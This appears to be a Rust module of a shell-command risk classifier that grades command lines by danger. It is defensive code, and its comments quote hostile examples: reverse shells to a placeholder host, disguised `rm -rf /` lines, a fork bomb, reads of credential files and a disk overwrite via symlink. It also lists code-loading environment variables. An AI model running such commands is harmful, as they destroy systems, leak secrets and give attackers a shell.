//! Judging a command line. Every command the line would run is judged on its own and the
//! strictest verdict wins. `low` is a positive model: a command is low only when its program,
//! subcommand and every option are known read-only (see `programs`), it names no secret, and it
//! needs no shell. A plain pipeline whose every stage is low is low (Warden connects the stages
//! itself); any other shell syntax makes a line at least `medium`. Destroying a system is
//! `forbidden`; anything unknown is `medium`.

use crate::level::RiskLevel;
use crate::normalize::{Concern, Payload, Unwrapped, resolve};
use crate::parse::{Command, commands, host_split};
use crate::paths::{PathJudge, lexical};
use crate::programs::{self, Ctx, Judgement, PathMemo};
use crate::workdirs::Dir;

/// A decision with its reason and the part of the line that decided it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    /// The strictest level of every command of the line.
    pub level: RiskLevel,
    /// Why, in a sentence an operator can read.
    pub reason: String,
    /// The command (normalised) the reason is about.
    pub command: String,
}

impl Verdict {
    fn new(level: RiskLevel, reason: impl Into<String>, command: impl Into<String>) -> Self {
        Self {
            level,
            reason: reason.into(),
            command: command.into(),
        }
    }

    fn stricter(self, other: Verdict) -> Verdict {
        if other.level > self.level {
            other
        } else {
            self
        }
    }
}

const MAX_DEPTH: usize = 6;
/// Longer lines are not judged: a human reads them.
const MAX_LINE_BYTES: usize = 16 * 1024;

/// The verdict for `line`, with paths judged as written (no file system, no protected
/// directories beyond `/proc/*/environ` and `/proc/*/mem`).
pub fn classify_command(line: &str) -> Verdict {
    classify_with(line, PathJudge::default())
}

/// The verdict for `line`, with paths judged by `paths` (resolved, protected directories).
pub fn classify_with(line: &str, paths: PathJudge) -> Verdict {
    let memo = PathMemo::new(Vec::with_capacity(8));
    judge_line(
        &Ctx {
            paths,
            depth: 0,
            memo: &memo,
            time_bounded: false,
            globs: &[],
        },
        line,
    )
}

pub(crate) fn judge_line(ctx: &Ctx, line: &str) -> Verdict {
    // The variables this line gives values it shows: judged with those values written out
    // (`assigned.rs`), not as values the line cannot show (`shown_values.rs`).
    let _frame = crate::shown_values::Frame::enter(line);
    judge_line_shown(ctx, line)
}

fn judge_line_shown(ctx: &Ctx, line: &str) -> Verdict {
    if line.trim().is_empty() {
        return Verdict::new(RiskLevel::Low, "an empty command runs nothing", "");
    }
    if line.len() > MAX_LINE_BYTES || line.contains('\0') {
        return Verdict::new(
            RiskLevel::High,
            "the command is too long or holds a NUL byte; a human should look",
            "",
        );
    }
    if ctx.depth > MAX_DEPTH {
        return Verdict::new(RiskLevel::High, "commands nested too deep to judge", line);
    }
    if is_fork_bomb(line) {
        return Verdict::new(
            RiskLevel::Forbidden,
            "a fork bomb exhausts the machine",
            line,
        );
    }
    // `X=/srv/app/build; rm -rf $X`: where the line's variables can only hold the values it
    // gives them, the line is what it runs with them written out (`assigned.rs`). `for f in
    // /tmp/a /tmp/b; do ls -l "$f"; done`: a loop over values the line shows is its body run
    // once with each (`loops.rs`), no higher than that and as high as the worst.
    if ctx.depth < MAX_DEPTH
        && let Some(text) =
            crate::assigned::determined(line).or_else(|| crate::loops::unrolled(line))
    {
        return judge_line(
            &Ctx {
                depth: ctx.depth + 1,
                ..*ctx
            },
            &text,
        );
    }
    let (parts, shell) = match commands(line) {
        Ok(parsed) => parsed,
        Err(why) => {
            return Verdict::new(
                RiskLevel::High,
                format!(
                    "the command cannot be read ({}); a human should look",
                    why.0
                ),
                line,
            );
        }
    };
    // Where each part runs, when the line changes its working directory (`workdirs.rs`).
    let start = if ctx.paths.unknown_dir {
        None
    } else {
        ctx.paths
            .working_dir
            .map(std::path::Path::to_path_buf)
            .or_else(|| ctx.paths.resolver.working_dir())
    };
    let planned = crate::workdirs::plan(&parts, start.as_deref());
    // The strictest part decides; among equals the first, so a low line says what it reads.
    let mut verdict = Verdict::new(RiskLevel::Low, "nothing to run", line);
    for (index, part) in parts.iter().enumerate() {
        let dirs = planned.get(index).map_or(&[][..], Vec::as_slice);
        let judged = judge_in(ctx, part, dirs);
        verdict = if index == 0 {
            judged
        } else {
            verdict.stricter(judged)
        };
    }
    // `nc HOST PORT | sh`, `sh -i < /dev/tcp/HOST/PORT`: a shell opened to the network
    // (`network_shells.rs`).
    if let Some(why) = crate::network_shells::opened(&parts) {
        verdict = verdict.stricter(Verdict::new(RiskLevel::Forbidden, why, line));
    }
    // `echo TEXT | sh`, `printf TEXT | bash -s ARGS`: the shell runs what the stage before it
    // prints, with the parameters it is given (`positional.rs`), judged as a line of its own
    // at every level.
    for pair in parts.windows(2) {
        if let Some(text) = piped_script(&pair[0], &pair[1])
            && ctx.depth < MAX_DEPTH
        {
            verdict = stricter_inside(
                ctx,
                verdict,
                line,
                &text,
                "the shell runs what is piped to it:",
            );
        }
    }
    // `find / -name .pgpass | xargs cat`, `echo /root/.vault-token | xargs cat`: xargs runs
    // its program on the names the stage before it prints; where that stage names a secret
    // file, the program reads it, as `cat FILE` would.
    for pair in parts.windows(2) {
        if let Some(why) = crate::fed_args::xargs_given_secret(&pair[0], &pair[1]) {
            verdict = verdict.stricter(Verdict::new(RiskLevel::High, why, line));
        }
    }
    // `c='rm -rf /'; eval $c`, `rm${IFS}-rf${IFS}/`: the line with the variables it sets
    // written as their values (`assigned.rs`).
    if ctx.depth < MAX_DEPTH
        && let Some(text) = crate::assigned::substituted(line)
    {
        verdict = forbidden_inside(ctx, verdict, line, &text, "with its variables' values,");
        if line.contains("IFS") {
            verdict = verdict.stricter(Verdict::new(
                RiskLevel::High,
                "IFS splits the words a variable expands to: what runs is not what is written; a human should read it",
                line,
            ));
        }
    }
    // `for d in /tmp/a /; do rm -rf $d; done`: the line with each value the loop gives;
    // `: > $(echo /etc/passwd)`: a substitution that only prints, written as what it prints.
    if ctx.depth < MAX_DEPTH {
        // What a substitution prints becomes a program's words: a program no table knows is
        // judged with them at any level (`mytool x $(echo etc/passwd)` is `mytool x
        // etc/passwd`).
        if let Some(text) = crate::fed_args::printed_substitutions(line) {
            let inside = if runs_unknown_program(ctx, &text) {
                stricter_inside
            } else {
                forbidden_inside
            };
            verdict = inside(
                ctx,
                verdict,
                line,
                &text,
                "with what its substitutions print,",
            );
        }
        for text in crate::assigned::loop_values(line) {
            verdict = forbidden_inside(ctx, verdict, line, &text, "with a value its loop gives,");
        }
    }
    // `bash <(echo 'rm -rf /')`: the script a shell reads from a process substitution;
    // `python3 <<EOF … EOF`: a here-document, judged as the here-string it amounts to.
    if ctx.depth < MAX_DEPTH {
        // A shell given parameters runs its here-document with them (`sh -s /etc/passwd
        // <<'EOF'`), judged at every level as the here-string it amounts to.
        for text in crate::fed_args::here_documents(line) {
            let inside = if runs_script_with_parameters(&text) {
                stricter_inside
            } else {
                forbidden_inside
            };
            verdict = inside(ctx, verdict, line, &text, "with its here-document,");
        }
        for text in crate::fed_args::substituted_scripts(line) {
            verdict = forbidden_inside(ctx, verdict, line, &text, "the shell reads");
        }
        // `ln -sf /dev/sda /tmp/x && dd of=/tmp/x`: what comes after a link the line makes, with
        // the link written as its target; `echo 'rm -rf /' > s; sh s`: a script the line writes
        // and runs (`made_files.rs`).
        for text in crate::made_files::through_links(&parts) {
            verdict = forbidden_inside(ctx, verdict, line, &text, "through the link it makes,");
        }
        let here_docs: Vec<Vec<Command>> = crate::fed_args::here_documents(line)
            .iter()
            .filter_map(|text| commands(text).ok().map(|(parts, _)| parts))
            .collect();
        for text in crate::made_files::run_scripts(&parts, &here_docs) {
            verdict = forbidden_inside(ctx, verdict, line, &text, "the line writes and runs");
        }
        for text in crate::made_files::function_bodies(line) {
            verdict = forbidden_inside(
                ctx,
                verdict,
                line,
                &text,
                "a function the line defines runs",
            );
        }
    }
    // `echo / | xargs rm -rf`, `find / | xargs rm -rf`: the commands xargs builds from the input
    // the line gives it (`fed_args.rs`); `python3 -c 'os.system("rm -rf /")'`: the lines an
    // interpreter's inline code holds (`inline_code.rs`). Each is judged as a line of its own.
    for (index, part) in parts.iter().enumerate() {
        if ctx.depth >= MAX_DEPTH {
            break;
        }
        // xargs runs its command where it runs itself (`cd /tmp/b && find . | xargs rm -rf`).
        let dirs = planned.get(index).map_or(&[][..], Vec::as_slice);
        // The words xargs gives a program no table knows are that program's words, judged at
        // any level (`echo etc/passwd | xargs mytool x` is `mytool x etc/passwd`, which may
        // write /etc/passwd); a known program's table already judged what it may be given.
        let unknown_runs = runs_unknown_words(ctx, &part.words);
        for text in crate::fed_args::xargs_lines(&parts, index) {
            let inside = if unknown_runs || runs_unknown_program(ctx, &text) {
                stricter_inside
            } else {
                forbidden_inside
            };
            for dir in dirs {
                verdict = inside(&in_dir(ctx, dir), verdict, line, &text, "xargs runs");
            }
            if dirs.is_empty() {
                verdict = inside(ctx, verdict, line, &text, "xargs runs");
            }
        }
        // `ls | parallel rm -rf`: GNU parallel is no wrapper the resolver knows (its command
        // does not start at a place its options show), so each command it may run is judged
        // whole, and the strictest counts at any level (`parallel.rs`).
        for text in crate::parallel::parallel_lines(&parts, index) {
            verdict = stricter_inside(ctx, verdict, line, &text, "parallel runs");
        }
        for text in crate::mounted::host_lines(&part.words) {
            verdict = forbidden_inside(
                ctx,
                verdict,
                line,
                &text,
                "the container runs on the host's files",
            );
        }
        for text in crate::carried::carried_lines(&part.words) {
            verdict = forbidden_inside(ctx, verdict, line, &text, "the program runs");
        }
        for text in crate::run_later::scheduled_lines(&parts, index) {
            verdict = forbidden_inside(
                ctx,
                verdict,
                line,
                &text,
                "the line writes, to be run later,",
            );
        }
        if let Some(words) = inline_code(part) {
            // The code on the command line, and the code or data the line feeds it
            // (`python3 <<< CODE`, `echo CODE | perl`, `awk '{system($0)}' <<< LINE`).
            let mut codes = words.clone();
            // awk's variables given on the command line (`-v c='rm -rf /' 'BEGIN{system(c)}'`).
            codes.extend(
                words
                    .windows(2)
                    .filter(|pair| matches!(pair[0].as_str(), "-v" | "--assign"))
                    .filter_map(|pair| pair[1].split_once('=').map(|(_, v)| format!("'{v}'"))),
            );
            codes.extend(part.here_strings.iter().cloned());
            if part.fed
                && let Some(printer) = index.checked_sub(1).and_then(|i| parts.get(i))
                && let Some(text) = crate::fed_args::printed_text(&printer.words)
            {
                codes.push(text);
            }
            if codes
                .iter()
                .any(|code| crate::inline_code::forks_in_a_loop(code))
            {
                verdict = verdict.stricter(Verdict::new(
                    RiskLevel::Forbidden,
                    "the inline code forks in a loop: a fork bomb exhausts the machine",
                    line,
                ));
            }
            let held: Vec<String> = codes
                .iter()
                .flat_map(|code| crate::inline_code::embedded_lines(code))
                .chain(crate::inline_code::edited_in_place(&words))
                .chain(part.here_strings.iter().cloned())
                .collect();
            for text in &held {
                verdict = forbidden_inside(ctx, verdict, line, text, "the inline code holds");
            }
        }
    }
    // A low line runs on the host, split by `host_pipeline` (a plain pipeline's stages, or one
    // command): what runs must be exactly what was judged.
    if verdict.level == RiskLevel::Low {
        // `cd DIR && PIPELINE` runs the pipeline in DIR (`env -C DIR`), where it was judged.
        let same = host_split(line).map(|(dir, stages)| {
            let run = match &dir {
                Some(dir) => match parts.split_first() {
                    Some((change, rest)) if change.words == ["cd", dir.as_str()] => rest,
                    _ => return false,
                },
                None => &parts[..],
            };
            stages.len() == run.len()
                && stages
                    .iter()
                    .zip(run)
                    .all(|(stage, part)| *stage == part.words)
        });
        match same {
            Some(true)
                if shell
                    && parts
                        .first()
                        .is_some_and(|p| p.words.first().is_some_and(|w| w == "cd")) =>
            {
                return Verdict::new(
                    RiskLevel::Low,
                    "read-only commands run by Warden in the directory the line changes to, without a shell",
                    line,
                );
            }
            Some(true) if shell => {
                return Verdict::new(
                    RiskLevel::Low,
                    "a pipeline of read-only commands, connected by Warden without a shell",
                    line,
                );
            }
            Some(true) => return verdict,
            Some(false) => {
                return Verdict::new(
                    RiskLevel::Medium,
                    "the line does not split the same way for judging and for running",
                    line,
                );
            }
            None if shell => {}
            None => {
                return Verdict::new(
                    RiskLevel::Medium,
                    "the line cannot be split into a program and its arguments",
                    line,
                );
            }
        }
    }
    if let Some(name) = defined_function(line) {
        verdict = verdict.stricter(Verdict::new(
            RiskLevel::High,
            format!(
                "defines a shell function `{name}`, which runs in place of any program of that name; a human should read it"
            ),
            line,
        ));
    }
    if shell {
        verdict = verdict.stricter(Verdict::new(
            RiskLevel::Medium,
            "shell syntax never runs in a host shell; sandbox or approval",
            line,
        ));
    }
    verdict
}

/// The name of a shell function the line defines as `NAME() { …; }` or `NAME () ( … )`
/// (outside quotes), if it defines one: the keyword form `function NAME` is judged with the
/// control structures. A call by that name later in the line runs the body, not the program
/// the name would be judged as.
fn defined_function(line: &str) -> Option<String> {
    let chars: Vec<char> = line.chars().collect();
    let (mut single, mut double) = (false, false);
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\\' if !single => i += 1,
            '\'' if !double => single = !single,
            '"' if !single => double = !double,
            '(' if !single && !double => {
                let name: String = chars[..i]
                    .iter()
                    .rev()
                    .skip_while(|c| **c == ' ' || **c == '\t')
                    .take_while(|c| {
                        c.is_alphanumeric() || matches!(**c, '_' | '-' | '.' | ':' | '/')
                    })
                    .collect::<String>()
                    .chars()
                    .rev()
                    .collect();
                let mut j = i + 1;
                while matches!(chars.get(j), Some(' ' | '\t')) {
                    j += 1;
                }
                if chars.get(j) == Some(&')') && !name.is_empty() {
                    j += 1;
                    while matches!(chars.get(j), Some(' ' | '\t' | '\n')) {
                        j += 1;
                    }
                    if matches!(chars.get(j), Some('{' | '(')) {
                        return Some(name);
                    }
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// `:(){ :|:& };:` and its renamings: a function that pipes into itself in the background.
fn is_fork_bomb(line: &str) -> bool {
    if !line.contains('(') {
        return false;
    }
    let compact: String = line.chars().filter(|c| !c.is_whitespace()).collect();
    let Some(at) = compact.find("(){") else {
        return false;
    };
    let name: String = compact[..at]
        .chars()
        .rev()
        .take_while(|c| !matches!(c, ';' | '&' | '|' | '{' | '}'))
        .collect::<String>()
        .chars()
        .rev()
        .collect();
    let name = name.trim_start_matches("function");
    !name.is_empty() && compact.contains(&format!("{name}|{name}&"))
}

/// `ctx` for a command that runs in `dir`.
fn in_dir<'a>(ctx: &Ctx<'a>, dir: &'a Dir) -> Ctx<'a> {
    match dir {
        Dir::Start => *ctx,
        Dir::Known(path) => Ctx {
            paths: PathJudge {
                working_dir: Some(path),
                unknown_dir: false,
                ..ctx.paths
            },
            ..*ctx
        },
        Dir::Unknown => Ctx {
            paths: PathJudge {
                working_dir: None,
                unknown_dir: true,
                ..ctx.paths
            },
            ..*ctx
        },
    }
}

/// The verdict for `command` in each directory it may run in (`workdirs.rs`): the strictest.
fn judge_in(ctx: &Ctx, command: &Command, dirs: &[Dir]) -> Verdict {
    let mut verdict: Option<Verdict> = None;
    for dir in dirs {
        let judged = match dir {
            Dir::Start => judge_command(ctx, command),
            Dir::Known(path) => judge_command(
                &Ctx {
                    paths: PathJudge {
                        working_dir: Some(path),
                        unknown_dir: false,
                        ..ctx.paths
                    },
                    ..*ctx
                },
                command,
            ),
            Dir::Unknown => judge_command(
                &Ctx {
                    paths: PathJudge {
                        working_dir: None,
                        unknown_dir: true,
                        ..ctx.paths
                    },
                    ..*ctx
                },
                command,
            ),
        };
        verdict = Some(match verdict {
            Some(so_far) => so_far.stricter(judged),
            None => judged,
        });
    }
    verdict.unwrap_or_else(|| judge_command(ctx, command))
}

fn judge_command(ctx: &Ctx, command: &Command) -> Verdict {
    let ctx = &Ctx {
        globs: &command.globs,
        ..*ctx
    };
    let text = command.words.join(" ");
    let unwrapped = resolve(&command.words);
    let mut j = if command.words.is_empty() {
        Judgement::low("read-only")
    } else {
        judge_unwrapped(ctx, &unwrapped, &command.words)
    };
    for target in &command.writes_to {
        let (level, reason) = if command.appends_to.contains(target) {
            ctx.paths.append(target)
        } else {
            ctx.paths.write(target)
        };
        j.raise(level, reason);
    }
    // Data the line feeds a network client is sent to the service it reaches, or run there as
    // commands (`programs/requests.rs`).
    if command.fed
        && let Payload::Program { name, args } = &unwrapped.payload
        && let Some(why) = programs::requests::sends_its_input(name, args)
    {
        programs::requests::raise(&mut j, &format!("{why}, which the line feeds it"));
    }
    for source in &command.reads_from {
        j.raise_path(ctx.read(source));
    }
    // A shell given a here-string runs it as its script (`bash <<< "rm -rf /"`, with its
    // parameters: `sh -s /etc/passwd <<< 'rm -f "$1"'`), and so do `source /dev/stdin`, `.
    // /dev/stdin` and `at`/`batch` (later): the text is judged as a line of its own, and what
    // it may never do, the shell may not either; a shell's script at every level.
    if let Payload::Program { name, args } = &unwrapped.payload
        && (crate::normalize::is_shell(name)
            || matches!(name.as_str(), "source" | "." | "at" | "batch"))
        && !args.iter().any(|a| a.starts_with('-') && a.contains('c'))
        && ctx.depth < MAX_DEPTH
    {
        let parameters = crate::normalize::is_shell(name)
            .then(|| crate::normalize::stdin_script_parameters(args))
            .flatten();
        for text in &command.here_strings {
            let script =
                parameters.map_or_else(|| text.clone(), |given| script_with(name, text, given));
            let inner = judge_line(
                &Ctx {
                    depth: ctx.depth + 1,
                    ..*ctx
                },
                &script,
            );
            if inner.level == RiskLevel::Forbidden
                || (parameters.is_some() && inner.level > j.level)
            {
                j.raise(
                    inner.level,
                    format!("{name} runs the text it is given: {}", inner.reason),
                );
            }
        }
    }
    if command.expands {
        j.raise(
            unknowable(ctx),
            "a shell would expand variables, wildcards or ~ here; on the host they stay literal, and what the shell reads cannot be known before it runs",
        );
    }
    for pattern in &command.globs {
        j.raise_path(glob_secret(ctx, pattern));
    }
    // A substitution's output becomes words of the command (`cat $(echo fstab)`): what they
    // name is known only when it runs, wherever the command runs.
    let prints_only = matches!(&unwrapped.payload, Payload::Program { name, .. } if name == "echo" || name == "printf");
    if !prints_only
        && command
            .words
            .iter()
            .skip(1)
            .any(|word| word.contains("__substitution__"))
    {
        j.raise(
            unknowable(ctx),
            "a substitution's output becomes words of the command: what they name cannot be known before it runs",
        );
    }
    let shown = shown(&unwrapped, &text);
    Verdict::new(j.level, j.reason, shown)
}

/// `verdict` made forbidden where `text`, judged as a line of its own, is.
/// `verdict`, made as strict as the line `text` that a program of `line` runs, where that is
/// stricter.
fn stricter_inside(ctx: &Ctx, verdict: Verdict, line: &str, text: &str, how: &str) -> Verdict {
    let inner = judge_line(
        &Ctx {
            depth: ctx.depth + 1,
            ..*ctx
        },
        text,
    );
    if inner.level > verdict.level {
        verdict.stricter(Verdict::new(
            inner.level,
            format!("{how} {text}: {}", inner.reason),
            line,
        ))
    } else {
        verdict
    }
}

/// Whether `text` runs a program no table knows, once its wrappers are removed.
fn runs_unknown_program(ctx: &Ctx, text: &str) -> bool {
    commands(text).is_ok_and(|(parts, _)| {
        parts
            .iter()
            .any(|part| runs_unknown_words(ctx, &part.words))
    })
}

/// Whether the command `words` runs a program no table knows, once its wrappers (`xargs`,
/// `sudo`, `nice`) are removed, or a shell's script, which may hand its words to one (`xargs
/// sh -c 'mytool "$0"'`).
fn runs_unknown_words(ctx: &Ctx, words: &[String]) -> bool {
    match resolve(words).payload {
        Payload::Program { name, args } => crate::programs::no_table_knows(ctx, &name, &args),
        Payload::Shell(_) => true,
        Payload::Code(_) | Payload::Nothing(_) | Payload::Hidden(_) => false,
    }
}

fn forbidden_inside(ctx: &Ctx, verdict: Verdict, line: &str, text: &str, how: &str) -> Verdict {
    let inner = judge_line(
        &Ctx {
            depth: ctx.depth + 1,
            ..*ctx
        },
        text,
    );
    if inner.level == RiskLevel::Forbidden {
        verdict.stricter(Verdict::new(
            RiskLevel::Forbidden,
            format!("{how} {text}: {}", inner.reason),
            line,
        ))
    } else {
        verdict
    }
}

/// The words of `part` after its program when the program runs inline code: an interpreter
/// with `-c`/`-e` and the like, or awk (its program is always inline).
fn inline_code(part: &Command) -> Option<Vec<String>> {
    let is_code = match resolve(&part.words).payload {
        Payload::Code(_) => true,
        // An interpreter without inline code runs a script, or the code its input gives it.
        Payload::Program { name, .. } => matches!(
            name.as_str(),
            "awk"
                | "gawk"
                | "mawk"
                | "nawk"
                | "python"
                | "perl"
                | "ruby"
                | "node"
                | "nodejs"
                | "php"
                | "lua"
        ),
        Payload::Shell(_) | Payload::Nothing(_) | Payload::Hidden(_) => false,
    };
    is_code.then(|| part.words.get(1..).unwrap_or_default().to_vec())
}

/// The text `printer` (`echo` or `printf` with its words, options aside) feeds `shell` when
/// `shell` is a shell reading its script from its input (no `-c`, no script operand).
fn piped_script(printer: &Command, shell: &Command) -> Option<String> {
    if !shell.fed {
        return None;
    }
    let text = crate::fed_args::printed_text(&printer.words)?;
    let Payload::Program { name, args } = resolve(&shell.words).payload else {
        return None;
    };
    // A shell without `-c` or a script, `source /dev/stdin`, and `at`/`batch`, which run
    // their input later.
    let stdin = |a: &String| matches!(a.as_str(), "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0");
    if crate::normalize::is_shell(&name) {
        return crate::normalize::stdin_script_parameters(&args)
            .map(|given| script_with(&name, &text, given));
    }
    let reads_input = (matches!(name.as_str(), "source" | ".") && args.first().is_some_and(stdin))
        || matches!(name.as_str(), "at" | "batch");
    reads_input.then_some(text)
}

/// Whether `text` (a command given a here-string) is a shell reading its script from its
/// input with positional parameters (`sh -s ARGS`, `bash -s -- ARGS`).
fn runs_script_with_parameters(text: &str) -> bool {
    let Ok((parts, _)) = commands(text) else {
        return false;
    };
    parts.iter().any(|part| {
        crate::normalize::shell_reading_input(&part.words).is_some_and(|given| !given.is_empty())
    })
}

/// The script `text` a shell named `shell` reads from its input, with the parameters `given`
/// written in (`$0` is the shell's name); as it is where it may change them.
fn script_with(shell: &str, text: &str, given: &[String]) -> String {
    crate::positional::written_in(text, Some(shell), given).unwrap_or_else(|| text.to_owned())
}

/// The level of a command whose words (the paths it reads) are known only when it runs: the
/// sandbox holds it here (medium); where nothing contains the command (`ssh_exec`, often as
/// root) it fails closed (high), a human reads it.
fn unknowable(ctx: &Ctx) -> RiskLevel {
    if ctx.paths.uncontained {
        RiskLevel::High
    } else {
        RiskLevel::Medium
    }
}

/// The verdict for a command line a program runs through a shell (sed's `e` command).
pub fn judge_text(ctx: &Ctx, text: &str) -> Verdict {
    judge_line(
        &Ctx {
            depth: ctx.depth + 1,
            ..*ctx
        },
        text,
    )
}

/// The verdict for one command given as words (`find -exec`'s command).
pub fn judge_argv(ctx: &Ctx, words: &[String]) -> Judgement {
    let nested = Ctx {
        depth: ctx.depth + 1,
        ..*ctx
    };
    if nested.depth > MAX_DEPTH {
        return Judgement::new(RiskLevel::High, "commands nested too deep to judge");
    }
    judge_unwrapped(&nested, &resolve(words), words)
}

fn shown(unwrapped: &Unwrapped, text: &str) -> String {
    match &unwrapped.payload {
        Payload::Program { name, args } => std::iter::once(name.clone())
            .chain(args.iter().cloned())
            .collect::<Vec<_>>()
            .join(" "),
        Payload::Shell(_) | Payload::Code(_) | Payload::Nothing(_) | Payload::Hidden(_) => {
            text.to_owned()
        }
    }
}

fn judge_unwrapped(ctx: &Ctx, unwrapped: &Unwrapped, words: &[String]) -> Judgement {
    // `env -C DIR` with DIR relative starts from the directory the command runs in.
    let joined = match (unwrapped.working_dir.as_deref(), ctx.paths.working_dir) {
        (Some(dir), Some(base)) if !dir.starts_with('/') => Some(lexical(&base.join(dir))),
        _ => None,
    };
    let paths = PathJudge {
        working_dir: joined
            .as_deref()
            .or(unwrapped.working_dir.as_deref().map(std::path::Path::new))
            .or(ctx.paths.working_dir),
        ..ctx.paths
    };
    let ctx = Ctx {
        paths,
        time_bounded: unwrapped.ends_in_time(ctx.time_bounded),
        ..*ctx
    };
    let mut j = match &unwrapped.payload {
        Payload::Program { name, args } => programs::judge(&ctx, name, args),
        Payload::Shell(text) => {
            let inner = judge_line(
                &Ctx {
                    depth: ctx.depth + 1,
                    ..ctx
                },
                text,
            );
            let mut judged = Judgement::new(inner.level, inner.reason);
            judged.raise(
                RiskLevel::Medium,
                "a shell payload runs only in the sandbox or with approval",
            );
            judged
        }
        Payload::Code(interpreter) => Judgement::new(
            RiskLevel::High,
            format!("{interpreter} with inline code can do anything; a human should read it"),
        ),
        // `env` alone prints the environment: empty where containment runs the command, real
        // (tokens included) where nothing contains it.
        Payload::Nothing(wrapper) if wrapper == "env" && ctx.paths.uncontained => Judgement::new(
            RiskLevel::High,
            "env alone prints the environment, which is real (tokens included) where nothing contains the command",
        ),
        Payload::Nothing(wrapper) => Judgement::low(format!("{wrapper} alone only prints")),
        Payload::Hidden(why) => Judgement::new(RiskLevel::High, why.clone()),
    };
    for concern in &unwrapped.concerns {
        match concern {
            Concern::Level(level, reason) => j.raise(*level, reason.clone()),
            Concern::ShowsCommandLines(shown) => {
                crate::programs::cmdlines::raise(&ctx, &mut j, shown)
            }
            Concern::Reads(path) => j.raise_path(ctx.read(path)),
            Concern::Endless(why) if ctx.must_end() => j.raise(
                RiskLevel::Medium,
                format!("{why}: nothing ends it where nothing contains the command"),
            ),
            Concern::Endless(_) => {}
            Concern::Oversized(why) if ctx.paths.uncontained => j.raise(
                RiskLevel::Medium,
                format!("{why}, and nothing contains the command"),
            ),
            Concern::Oversized(_) => {}
            Concern::Unknowable(why) => j.raise(unknowable(&ctx), why.clone()),
            Concern::Writes(path) => {
                let (level, reason) = ctx.paths.write(path);
                j.raise(level.max(RiskLevel::High), reason);
            }
        }
    }
    for assignment in &unwrapped.assignments {
        if let Some((level, reason)) = assignment_risk(assignment) {
            j.raise(level, reason);
        }
        for path in logs_written(assignment) {
            let (level, reason) = ctx.paths.write(path);
            j.raise(level.max(RiskLevel::High), reason);
        }
        raise_install_dir(&ctx, assignment, &mut j);
    }
    // `export NAME=VALUE` (and `declare -x`, `typeset`, `readonly`, `local`) sets the variable
    // for every later command of the line, as `NAME=VALUE cmd` does for one.
    if let Payload::Program { name, args } = &unwrapped.payload
        && matches!(
            name.as_str(),
            "export" | "declare" | "typeset" | "readonly" | "local"
        )
    {
        for assignment in args
            .iter()
            .filter(|a| !a.starts_with('-') && a.contains('='))
        {
            if let Some((level, reason)) = assignment_risk(assignment) {
                j.raise(level, reason);
            }
            for path in logs_written(assignment) {
                let (level, reason) = ctx.paths.write(path);
                j.raise(level.max(RiskLevel::High), reason);
            }
            raise_install_dir(&ctx, assignment, &mut j);
        }
    }
    if unwrapped.elevated && j.level < RiskLevel::High {
        let reason = format!("runs as another user, root included ({})", j.reason);
        j.raise(RiskLevel::High, reason);
    }
    let prints_only = matches!(&unwrapped.payload, Payload::Program { name, .. } if name == "echo" || name == "printf");
    if !prints_only {
        for word in words {
            for candidate in candidates(word) {
                j.raise_path(ctx.mention(candidate));
            }
        }
    }
    j
}

/// The parts of a word that may be paths: the word itself, the value of `--opt=value` or
/// `key=value`, the parts of `a:b` lists, and whatever follows the first `/` (`-f/etc/x`,
/// `file:///etc/x`).
fn candidates(word: &str) -> Vec<&str> {
    fn add<'w>(part: &'w str, out: &mut Vec<&'w str>) {
        if (part.starts_with('~') || part.contains('/')) && !out.contains(&part) {
            out.push(part);
        }
    }
    let mut out = Vec::new();
    add(word, &mut out);
    if let Some((_, value)) = word.split_once('=') {
        add(value, &mut out);
    }
    if word.contains(':') {
        for part in word.split(':') {
            add(part, &mut out);
        }
    }
    if let Some(at) = word.find('/')
        && at > 0
    {
        add(&word[at..], &mut out);
    }
    out
}

/// Variables a command may be given without changing what it runs.
const HARMLESS_VARIABLES: &[&str] = &[
    "LANG",
    "LANGUAGE",
    "TZ",
    "COLUMNS",
    "LINES",
    "NO_COLOR",
    "TERM",
    "SYSTEMD_COLORS",
    "SYSTEMD_URLIFY",
];
/// Variables that make programs load or run other code.
const CODE_VARIABLES: &[&str] = &[
    "LD_",
    "PATH",
    "BASH_ENV",
    "ENV",
    "SHELLOPTS",
    "BASHOPTS",
    "PS4",
    "IFS",
    "PROMPT_COMMAND",
    "PAGER",
    "EDITOR",
    "VISUAL",
    "GIT_",
    "TAR_OPTIONS",
    // Options the archivers read from the environment (`UNZIP=-o`, `ZIPINFO`, bsdtar's
    // reader and writer options, `CPIO_OPTIONS` is none of GNU cpio's).
    "UNZIP",
    "ZIPINFO",
    "TAR_READER_OPTIONS",
    "TAR_WRITER_OPTIONS",
    "RIPGREP_CONFIG_PATH",
    "PYTHON",
    "PERL",
    "RUBY",
    "NODE_",
    "GCONV_PATH",
    "HOME",
    "XDG_",
    "LESS",
    "MANPAGER",
    "SYSTEMD_PAGER",
    "SYSTEMD_EDITOR",
    "DOCKER_",
    "CONTAINER",
    "KUBECONFIG",
    "HELM_",
    "GEM_",
    "SSH_",
    "GZIP",
    "XZ_OPT",
    "ZSTD_",
    "BZIP",
    "GREP_",
    "TMPDIR",
    "LOCPATH",
    "NLSPATH",
    "MALLOC_",
    "GLIBC_",
    "HOSTALIASES",
    "RES_OPTIONS",
    "LOCALDOMAIN",
    "OPENSSL_",
    "SSL_",
    "CURL_",
    "http_proxy",
    "https_proxy",
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "no_proxy",
    // mtr runs the program `MTR_PACKET` names to send its probes, and takes options from
    // `MTR_OPTIONS` the line does not show (`-F FILE`: each line of FILE looked up in DNS).
    "MTR_",
    // tc and ip load `q_KIND.so`, `f_KIND.so`, `link_KIND.so` from these directories.
    "TC_LIB_DIR",
    "IP_LIB_DIR",
    // A libvirt URI may run a program (`qemu+ext:///system?command=PATH`) or reach a host
    // through ssh: what `virsh -c URI` says, unseen.
    "LIBVIRT_DEFAULT_URI",
    "VIRSH_DEFAULT_CONNECT_URI",
    // What systemd's tools pass to less as `LESS` (`+!COMMAND` runs a command).
    "SYSTEMD_LESS",
    // A bus address may be `unixexec:path=PROG` (sd-bus and libdbus run PROG and talk to
    // it): every D-Bus client (systemctl, hostnamectl, busctl, upower, flatpak…).
    "DBUS_SYSTEM_BUS_ADDRESS",
    "DBUS_SESSION_BUS_ADDRESS",
    "DBUS_STARTER_ADDRESS",
